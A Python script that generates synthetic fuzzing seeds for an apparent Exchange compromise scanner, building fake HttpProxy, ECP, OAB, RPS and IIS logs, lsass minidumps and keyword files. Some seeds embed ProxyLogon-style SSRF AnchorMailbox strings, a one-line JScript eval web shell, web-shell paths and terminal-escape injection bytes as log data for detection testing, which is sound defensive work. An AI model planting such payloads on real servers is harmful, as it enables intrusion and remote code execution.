#!/usr/bin/env python3
"""Write the synthetic seed corpora under fuzz/corpus/<target>/.

Every seed is made up here (no real server's data); the output is
deterministic, so re-running the script reproduces the committed files.
Only the seeds named below are written: files that libFuzzer found and that
were added by hand (fuzz/corpus/<target>/<sha1>, crash-*) are left alone.

    python3 fuzz/make_corpus.py [CORPUS_ROOT]     (default: fuzz/corpus)
"""
import os
import struct
import sys

BOM = b"\xef\xbb\xbf"

# ---------------------------------------------------------------- exlog --

HP_FIELDS = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
             "ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,"
             "IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
             "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
             "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
             "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
             "TotalRequestTime,UrlQuery,GenericInfo,GenericErrors")
HP_COLS = HP_FIELDS.split(",")


def hp_row(**kw):
    """One HttpProxy row: values by column name, everything else empty."""
    vals = []
    for c in HP_COLS:
        v = kw.get(c, "")
        vals.append(v)
    return ",".join(vals)


def q(s):
    """CSV-quote s (doubling quotes)."""
    return '"' + s.replace('"', '""') + '"'


def hp_prologue(version="15.01.2106.002", log_type="HttpProxy Logs", date="2021-03-03T02:00:00.000Z",
                plain=True):
    lines = []
    if plain:
        lines.append(HP_FIELDS)
    lines += ["#Software: Microsoft Exchange Server", "#Version: " + version,
              "#Log-type: " + log_type, "#Date: " + date, "#Fields: " + HP_FIELDS]
    return lines


UA_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/88.0.4324.190 Safari/537.36")


def hp_rows_benign():
    return [
        hp_row(DateTime="2021-03-03T02:03:17.455Z", RequestId="0c1d2e3f-0000-4000-8000-000000000001",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/", AuthenticationType="FBA",
               IsAuthenticated="true", AuthenticatedUser="alice@example.test",
               AnchorMailbox="Smtp~alice@example.test", UserAgent=q(UA_CHROME),
               ClientIpAddress="10.0.1.21", ServerHostName="EXSRV01", HttpStatus="200",
               BackEndStatus="200", Method="GET", ProxyAction="Proxy",
               TargetServer="exsrv01.example.test", TotalRequestTime="31"),
        hp_row(DateTime="2021-03-03T02:05:00.001Z", RequestId="0c1d2e3f-0000-4000-8000-000000000002",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/DDI/DDIService.svc/GetList",
               UrlQuery=q("?schema=MessageTraceSummary&msExchEcpCanary=x\"y"),
               UserAgent=q('quoted "agent", with commas'), ClientIpAddress="10.0.1.22",
               ServerHostName="EXSRV01", HttpStatus="200", Method="POST",
               GenericInfo=q(""), GenericErrors=q('""')),
    ]


def hp_rows_attack():
    return [
        hp_row(DateTime="2021-03-03T02:11:05.120Z", RequestId="0c1d2e3f-0000-4000-8000-0000000000a1",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlHost="mail.example.test", UrlStem="/ecp/y.js",
               AuthenticationType="", IsAuthenticated="false",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/autodiscover/autodiscover.xml?#",
               UserAgent=q("ExchangeServicesClient/0.0.0.0"), ClientIpAddress="104.140.114.110",
               ServerHostName="EXSRV01", HttpStatus="200", Method="POST",
               BackEndCookie="Server~exsrv01.example.test~1942062522~ServerInfo~x"),
        hp_row(DateTime="2021-03-03T02:12:20.000Z", RequestId="0c1d2e3f-0000-4000-8000-0000000000a2",
               MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/mapi/emsmdb?MailboxId=x&a=~1942062522",
               ClientIpAddress="203.0.113.7", HttpStatus="241", Method="POST"),
        hp_row(DateTime="2021-03-03T02:14:09.000Z", Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=a",
               ClientIpAddress="203.0.113.7", HttpStatus="200", Method="POST"),
        hp_row(DateTime="2021-03-03T02:15:39.000Z", Protocol="Ecp", UrlStem="/ecp/y.js",
               AnchorMailbox="ServerInfo~a]@exsrv01.example.test:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=a",
               ClientIpAddress="203.0.113.7", HttpStatus="200", Method="POST"),
        hp_row(DateTime="2021-03-03T03:00:00.000Z", Protocol="Ecp", UrlStem="/ecp/x.js",
               AnchorMailbox="ServerInfo~localhost/ecp/default.flt", ClientIpAddress="198.51.100.9",
               HttpStatus="500", Method="GET"),
        hp_row(DateTime="2021-03-03T03:01:00.000Z", Protocol="Ecp", UrlStem="/ecp/exporttool/microsoft.exchange.ediscovery.exporttool.application",
               AnchorMailbox="ServerVersion~15.1.2106.2", HttpStatus="200", Method="GET"),
    ]


def crlf(lines, final=True):
    return ("\r\n".join(lines) + ("\r\n" if final else "")).encode()


def lf(lines, final=True):
    return ("\n".join(lines) + ("\n" if final else "")).encode()


ECP_FIELDS = "TimeStamp,ServerName,EventId,EventData"


def ecp_lines():
    return [
        "#Software: Microsoft Exchange Server", "#Version: 15.00.0000.000",
        "#Log-type: ECP Server Log", "#Date: 2021-03-03T00:00:00.000Z", "#Fields: " + ECP_FIELDS,
        "2021-03-03T00:42:13.207Z,EXSRV01,1," + q(
            "S:CMD=Get-InboxRule.Mailbox='alice@example.test';S:REQID=1;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;S:BLD=15.1.2106.2"),
        "2021-03-03T02:15:02.198Z,EXSRV01,1," + q(
            "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"
            "function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'.Identity='x';S:REQID=2;"
            "S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2106.2"),
        "2021-03-03T02:16:00.000Z,EXSRV01,1," + q(
            "S:CMD=Set-EcpVirtualDirectory.InternalUrl='https://mail.example.test/ecp';S:REQID=3"),
        "2021-03-03T02:17:00.000Z,EXSRV01,1," + q(
            "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='%3Cb%3Ex%3C/b%3E';S:REQID=4"),
    ]


OAB_FIELDS = "DateTime,ProcessId,ThreadId,Level,Message"


def oab_lines():
    return [
        "#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002",
        "#Log-type: OAB Generator Log", "#Date: 2021-03-03T00:00:00.000Z", "#Fields: " + OAB_FIELDS,
        "2021-03-03T00:05:00.114Z,6120,14,Information,OABGen: starting generation.",
        "2021-03-03T00:05:03.862Z,6120,14,Information," + q("Generated full OAB version 4: 412 entries, 0 errors."),
        "2021-03-03T00:05:04.019Z,6120,14,Warning,Download failed and temporary file "
        "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\9e2a\\oab.xml' needs to be removed.",
        "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
        "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.",
        "2021-03-03T02:17:03.455Z,6120,22,Warning," + q(
            "Download failed and temporary file '\\\\evil\\share\\..\\x.ashx' needs to be removed."),
    ]


RPS_FIELDS = ("DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
              "UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,ClientIpAddress,"
              "ServerHostName,HttpStatus,CommandId,CommandName,ClientInfo,UrlQuery,GenericInfo")


def rps_lines():
    return [
        RPS_FIELDS, "#Software: Microsoft Exchange Server", "#Version: 15.02.0792.003",
        "#Log-type: Rps Http Logs", "#Date: 2021-03-03T02:00:00.000Z", "#Fields: " + RPS_FIELDS,
        "2021-03-03T02:14:00.453Z,2021-03-03T02:14:00.453Z,r1,15,2,792,3,exsrv01.example.test,"
        "/powershell,Kerberos,true,EXAMPLE\\admin,10.0.0.5,EXSRV01,200,c1,Get-Mailbox,"
        "Microsoft WinRM Client,?serializationLevel=Full;clientApplication=ManagementShell,",
        "2021-03-03T02:24:33.999Z,2021-03-03T02:24:33.999Z,r2,15,2,792,3,exsrv01.example.test,"
        "/powershell,Kerberos,true,EXAMPLE\\admin,104.140.114.110,EXSRV01,200,c2,New-MailboxExportRequest,"
        + q("Microsoft WinRM Client, \"quoted\"") + ",?x=1,",
    ]


W3C_LINES = [
    "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
    "#Date: 2021-03-03 00:03:11",
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
    "2021-03-03 00:03:11 10.0.0.25 GET /owa/ - 443 EXAMPLE\\alice 10.0.1.21 "
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 187",
    "2021-03-03 02:11:05 10.0.0.25 POST /ecp/y.js - 443 - 104.140.114.110 "
    "ExchangeServicesClient/0.0.0.0 - 200 0 0 180",
    "2021-03-03 02:18:27 10.0.0.25 POST /aspnet_client/discover.aspx - 443 - 203.0.113.7 "
    "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html) - 200 0 0 412",
]


def exlog_seeds():
    s = {}
    s["httpproxy-bom-crlf.log"] = BOM + crlf(hp_prologue() + hp_rows_benign() + hp_rows_attack())
    s["httpproxy-lf-nobom.log"] = lf(hp_prologue(plain=False) + hp_rows_benign())
    # #Fields changes half way: other order, fewer columns, then an unknown set
    short = "DateTime,ClientIpAddress,AnchorMailbox,UrlStem,HttpStatus,Method"
    s["httpproxy-fields-change.log"] = crlf(
        hp_prologue(plain=False) + hp_rows_benign()[:1] + ["#Fields: " + short,
         "2021-03-03T04:00:00Z,203.0.113.7,ServerInfo~a]@x:444/ecp/proxyLogon.ecp?#,/ecp/y.js,241,POST",
         "#Fields: Foo,Bar,Baz", "1,2,3", "#Fields: " + HP_FIELDS] + hp_rows_attack()[1:3])
    # Exchange 2013: short header, alias column names, no #Version
    s["exchange2013-short.log"] = crlf([
        "#Software: Microsoft Exchange Server", "#Log-type: HttpProxy Logs",
        "#Fields: TimeStamp,ServerName,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
        "UrlStem,AnchorMailbox,ClientIpAddress,HttpStatus",
        "2021-03-02T23:59:59.999Z,EX2013,15,0,1497,2,/owa/,Smtp~bob@example.test,10.0.0.9,200",
        "2021-03-03T00:00:00Z,EX2013,15,0,847,32,/ecp/,ServerInfo~a]@b:444/autodiscover/x,10.0.0.9,200"])
    # truncated: unterminated quote, no final EOL, short rows
    s["truncated-rows.log"] = lf(hp_prologue(plain=False) + [
        "2021-03-03T05:00:00.000Z,id,15,1,2106,2,,Ecp,host,/ecp/,,,,,,ServerInfo~a]@b:444/mapi/emsmdb,\"Mozilla, unterminated",
        "2021-03-03T05:00:01.000Z,id,15",
        "2021-03-03T05:00:02.000Z",
        "\"2021-03-03T05:00:03.000Z\",\"id\",\"15\",\"1\",\"2106\",\"2\"",
        "2021-03-03T05:00:04.000Z,\"x\"junk,after"], final=False)
    s["ecp-server.log"] = BOM + crlf(ecp_lines())
    s["oab-generator.log"] = BOM + crlf(oab_lines())
    s["rps-http.log"] = BOM + crlf(rps_lines())
    s["plain-header-only.log"] = lf([HP_FIELDS] + hp_rows_benign() + hp_rows_attack()[:2])
    s["w3c-iis.log"] = crlf(W3C_LINES)
    # lone CR endings, mixed with CRLF and LF, blank lines
    s["mixed-eol.log"] = ("#Fields: DateTime,UrlStem,HttpStatus\r2021-03-03T01:00:00Z,/a,200\r\n"
                          "\r\r\n\n2021-03-03T01:00:01Z,/b,404\n\r2021-03-03T01:00:02Z,/c,500\r").encode()
    s["quotes-edge.log"] = lf([
        "#Fields: DateTime,UserAgent,UrlQuery,AnchorMailbox,HttpStatus",
        '"",""""""",""","","",',
        '2021-03-03T01:00:00Z,"a""b""c","""","x,y",200',
        '2021-03-03T01:00:01Z,"",,,',
        '2021-03-03T01:00:02Z,"a"b"c",q,r,s,t,u,v,w,,,',
        ",,,,,,,,,,,,,,,,,,,,", '"', '""', '"""', "a,\"b", ","])
    # a header row repeated as data (log rotation), duplicated column names
    s["header-repeat.log"] = lf([
        "#Fields: DateTime,DateTime,ClientIpAddress,clientipaddress, UrlStem ,\"HttpStatus\"",
        "2021-03-03T01:00:00Z,x,10.0.0.1,10.0.0.2,/owa/,200",
        "DateTime,DateTime,ClientIpAddress,clientipaddress,UrlStem,HttpStatus",
        "TimeStamp,ServerName,EventData",
        "2021-03-03T01:00:01Z,EX,data"])
    s["comments-only.log"] = lf(["#Software: x", "#Version:", "#Log-type:", "#Date:", "#Fields:",
                                 "#Fields: nothing,we,know", "#", "", "#Other: thing"])
    s["times.log"] = lf(["#Fields: DateTime,HttpStatus"] + [t + ",200" for t in [
        "2021-03-03T02:03:17.455Z", "2021-03-03 02:03:17", "2021-03-03", "2020-02-29T23:59:60Z",
        "2021-02-29T00:00:00Z", "1601-01-01T00:00:00+01:00", "9999-12-31T23:59:59.999-23:59",
        "2021-03-03T02:03:17.1234567+0530", "2021-03-03T02:03:17,5-05", "2021-13-01T00:00:00Z",
        "2021-03-03T24:00:00Z", "2021-03-03T02:03", "2021-03-03T02:03:17.Z", "  \"2021-03-03T02:03:17Z\"  ",
        "0000-00-00T00:00:00Z", "2021-03-03t02:03:17z", "2021-03-03T02:03:17+24:00"]])
    s["builds.log"] = lf([
        "#Software: Microsoft Exchange Server", "#Version: 15.02.0986.005",
        "#Fields: DateTime,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ServerHostName",
        "2021-03-03T01:00:00Z,15,2,986,5,EX19", "2021-03-03T01:00:01Z,0,0,0,0,EX",
        "2021-03-03T01:00:02Z,999999999,1,2,3,EX", "2021-03-03T01:00:03Z,1234567890,1,2,3,EX",
        "2021-03-03T01:00:04Z,15, 1 ,2106,2,EX", "2021-03-03T01:00:05Z,15,1,2106,,EX",
        "2021-03-03T01:00:06Z,14,3,123,4," + "S" * 300])
    s["bom-only.log"] = BOM
    s["version-variants.log"] = lf(["#Version: 15.1.2106.2.9", "#Fields: DateTime"]) + \
        lf(["#Version:  15.01.2106.002 ", "#Version: 4294967295.1.1.1", "2021-03-03T00:00:00Z"])
    return s


# ------------------------------------------------------------- minidump --

def md_string(s):
    b = s.encode("utf-16-le", "surrogatepass")  # lone surrogates on purpose
    return struct.pack("<I", len(b)) + b + b"\0\0"


def minidump(modules, streams=None, nstreams=None, count=None, stamp=0x60405262,
             extra_stream=True, name_len=None, name_rvas=None):
    """Header, directory, module list (108-byte modules), then the names."""
    hdr_size, ent = 32, 12
    n_dir = 2 if extra_stream else 1
    dir_rva = hdr_size
    ml_rva = dir_rva + n_dir * ent
    ml = struct.pack("<I", len(modules) if count is None else count)
    names_rva = ml_rva + 4 + 108 * len(modules)
    names = b""
    mods = b""
    for i, m in enumerate(modules):
        rva = names_rva + len(names)
        sb = md_string(m)
        if name_len is not None:
            sb = struct.pack("<I", name_len) + sb[4:]
        names += sb
        if name_rvas is not None:
            rva = name_rvas[i]
        mod = struct.pack("<QIII", 0x7ff600000000 + i * 0x100000, 0x10000, 0, 0x5f8e1c20)
        mod += struct.pack("<I", rva)  # ModuleNameRva at offset 20
        mod += b"\0" * (108 - len(mod))
        mods += mod
    body = ml + mods + names
    d = struct.pack("<III", 4, len(body), ml_rva)
    if extra_stream:
        d += struct.pack("<III", 7, 56, 0)  # SystemInfo pointing nowhere useful
    if streams is not None:
        d = streams
    hdr = struct.pack("<IIIIIIQ", 0x504D444D, 0xA793, n_dir if nstreams is None else nstreams,
                      dir_rva, 0, stamp, 0x2)
    return hdr + d + body


LSASS = "C:\\Windows\\System32\\lsass.exe"


def minidump_seeds():
    s = {}
    s["valid-lsass.dmp"] = minidump([LSASS, "C:\\Windows\\System32\\ntdll.dll"])
    s["valid-other.dmp"] = minidump(["C:\\Program Files\\app\\w3wp.exe", "C:\\x\\notlsass.exe"])
    s["lsass-variants.dmp"] = minidump(["LSASS.EXE", "/tmp/lsass.exe", "lsass.exe.bak", "xlsass.exe"])
    s["huge-counts.dmp"] = minidump([LSASS], nstreams=0xFFFFFFFF, count=0xFFFFFFFF)
    s["stream-count-4097.dmp"] = minidump([LSASS], nstreams=4097)
    v = bytearray(minidump([LSASS]))
    struct.pack_into("<I", v, 12, 0xFFFFFFF0)  # directory RVA past the end
    s["dir-rva-past-end.dmp"] = bytes(v)
    v = bytearray(minidump([LSASS]))
    struct.pack_into("<I", v, 32 + 8, len(v) - 2)  # module list RVA: 2 bytes before the end
    s["modlist-rva-near-end.dmp"] = bytes(v)
    s["name-rva-past-end.dmp"] = minidump([LSASS, "ntdll.dll"], name_rvas=[0xFFFFFFFF, 0x7FFFFFF0])
    s["name-rva-in-header.dmp"] = minidump([LSASS], name_rvas=[0])
    s["odd-string-len.dmp"] = minidump([LSASS], name_len=0x3B)
    s["string-len-too-big.dmp"] = minidump([LSASS], name_len=0x10001)
    s["string-len-past-end.dmp"] = minidump([LSASS], name_len=0x400)
    long_name = "C:\\" + "\u00e9\u4e2d\U0001F600" * 60 + "\\lsass.exe"
    s["non-bmp-long-name.dmp"] = minidump([long_name, "\ud800x\udc00"])
    # same module list named twice by the directory
    base = minidump([LSASS], extra_stream=True)
    v = bytearray(base)
    struct.pack_into("<III", v, 32 + 12, 4, 0, 32 + 24)
    s["dup-module-stream.dmp"] = bytes(v)
    s["header-only.dmp"] = struct.pack("<IIIIIIQ", 0x504D444D, 0xA793, 0, 0, 0, 0, 0)
    s["truncated-in-module.dmp"] = minidump([LSASS])[:32 + 24 + 4 + 60]
    s["signature-only.dmp"] = b"MDMP"
    s["not-mdmp.dmp"] = b"MDMX" + b"\0" * 60
    s["zero-stamp.dmp"] = minidump([LSASS], stamp=0)
    return s


# ---------------------------------------------------------------- match --

def match_seeds():
    s = {}
    s["needles-all-cases.txt"] = (
        b"serverinfo~ SERVERINFO~ ServerVersion~ #Fields: #FIELDS:\n"
        b"Download Failed And Temporary File\nSet-OabVirtualDirectory VIRTUALDIRECTORY\n"
        b"104.140.114.110 autodiscover.json AUTODISCOVER.JSON exec EXEC @corp.example [obj] "
        b"download failed\n")
    s["near-misses.txt"] = (
        b"serverinf~ serverinfo `corp.example {obj] [obj} 104.140.114.11 virtualdirector "
        b"#field: download failed and temporary fil autodiscover.jso exe` `xec\n")
    s["overlaps.txt"] = (b"serverserverinfo~~ #fields#fields: virtualvirtualdirectorydirectory "
                         b"104.140.114.104.140.114.110 execexec DOWNLOAD FAILEDdownload failed and temporary file")
    s["needle-at-end.txt"] = b"x" * 61 + b"104.140.114.110"
    s["needle-at-start.txt"] = b"serverinfo~" + b"-" * 40
    s["binary.bin"] = bytes(range(256)) + b"\0serverinfo~\0\xff#fields:\xc0\x80exec"
    s["tiny-3.bin"] = b"exe"
    s["tiny-4.bin"] = b"EXEC"
    s["empty"] = b""
    # first byte: 0xC3 -> 4 dynamic needles, find_ci needle of 0xC3 % 9 = 6 bytes
    s["dynamic-needles.bin"] = bytes([0xC3, 1, 2, 3, 4]) + b"abcdefghij" * 4 + b"ABCDE abcdef zzzz"
    s["dynamic-one.bin"] = bytes([0x00, 0x00]) + b"ssrf" + b"xxSSRFxxssrfx"
    s["http-line.txt"] = (hp_rows_attack()[0] + "\r\n" + hp_rows_benign()[1] + "\r\n").encode()
    s["ecp-line.txt"] = ("\n".join(ecp_lines()) + "\n").encode()
    return s


# ----------------------------------------------------------------- scan --

SC_HTTPPROXY, SC_ECP, SC_OAB, SC_RPS, SC_W3C, SC_ZIP, SC_DMP, SC_BIN = range(8)
SC_SINCE, SC_UNTIL, SC_HOST, SC_COLOR = 0x10, 0x20, 0x40, 0x80


def scan_seeds():
    s = {}
    hp = BOM + crlf(hp_prologue() + hp_rows_benign() + hp_rows_attack())
    s["0-httpproxy-attack"] = bytes([SC_HTTPPROXY]) + hp
    s["0-httpproxy-since-until-host-color"] = bytes([SC_HTTPPROXY | SC_SINCE | SC_UNTIL | SC_HOST | SC_COLOR]) + hp
    s["0-httpproxy-2013-build"] = bytes([SC_HTTPPROXY]) + crlf(
        hp_prologue(version="15.00.1497.002") + hp_rows_benign())
    s["0-httpproxy-binary"] = bytes([SC_HTTPPROXY]) + b"\0\1\2binary log\0"
    s["0-httpproxy-fields-change"] = bytes([SC_HTTPPROXY]) + exlog_seeds()["httpproxy-fields-change.log"]
    s["1-ecp"] = bytes([SC_ECP]) + BOM + crlf(ecp_lines())
    s["1-ecp-since"] = bytes([SC_ECP | SC_SINCE]) + BOM + crlf(ecp_lines())
    s["2-oab"] = bytes([SC_OAB]) + BOM + crlf(oab_lines())
    s["2-oab-until-color"] = bytes([SC_OAB | SC_UNTIL | SC_COLOR]) + BOM + crlf(oab_lines())
    s["3-rps"] = bytes([SC_RPS]) + BOM + crlf(rps_lines())
    s["4-w3c"] = bytes([SC_W3C]) + crlf(W3C_LINES)
    s["4-w3c-host"] = bytes([SC_W3C | SC_HOST]) + crlf(W3C_LINES)
    zip_bytes = (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\0" * 16 + b"\x08\x00\x00\x00lsass.dmp"
                 + b"\x03\x00" + b"PK\x05\x06" + b"\0" * 18)
    s["5-programdata-zip"] = bytes([SC_ZIP]) + zip_bytes
    s["5-programdata-7z"] = bytes([SC_ZIP]) + b"7z\xbc\xaf\x27\x1c" + b"\0" * 26
    s["5-programdata-text"] = bytes([SC_ZIP]) + b"not an archive\n"
    s["6-lsass-dump"] = bytes([SC_DMP]) + minidump([LSASS, "C:\\Windows\\System32\\ntdll.dll"])
    s["6-lsass-name-only"] = bytes([SC_DMP]) + b"just text"
    s["6-lsass-dump-since"] = bytes([SC_DMP | SC_SINCE]) + minidump([LSASS], stamp=1)
    s["7-bin-renamed-dump"] = bytes([SC_BIN]) + minidump(["c:\\windows\\system32\\LSASS.exe"])
    s["7-bin-ecp-content"] = bytes([SC_BIN]) + crlf(ecp_lines())
    s["7-bin-w3c-content"] = bytes([SC_BIN]) + lf(W3C_LINES)
    s["7-bin-rps-content"] = bytes([SC_BIN | SC_COLOR]) + lf(rps_lines())
    s["1-ecp-path-httpproxy-content"] = bytes([SC_ECP]) + lf(hp_prologue(plain=False) + hp_rows_attack())
    # terminal escapes, C1/bidi controls and invalid UTF-8 in logged values
    s["3-rps-hostile-text"] = bytes([SC_RPS]) + lf(["#Fields: " + RPS_FIELDS]) + (
        b"2021-03-03T02:24:33Z,,r,15,2,792,3,h\x1b[31m,/powershell,,,\x1b]0;pwn\x07,"
        b"104.140.114.110,EX\xff\xfe\xc0\x80,200,c,New-MailboxExportRequest,\xe2\x80\xae\xc2\x9b,"
        b"?q=\x7f\r\n")
    s["empty-file"] = bytes([SC_HTTPPROXY])
    return s


def write_all(root):
    sets = {"exlog": exlog_seeds(), "minidump": minidump_seeds(), "match": match_seeds(),
            "scan": scan_seeds()}
    for target, seeds in sets.items():
        d = os.path.join(root, target)
        os.makedirs(d, exist_ok=True)
        for name, data in sorted(seeds.items()):
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
        print("%s: %d seeds" % (target, len(seeds)))


if __name__ == "__main__":
    write_all(sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "corpus"))
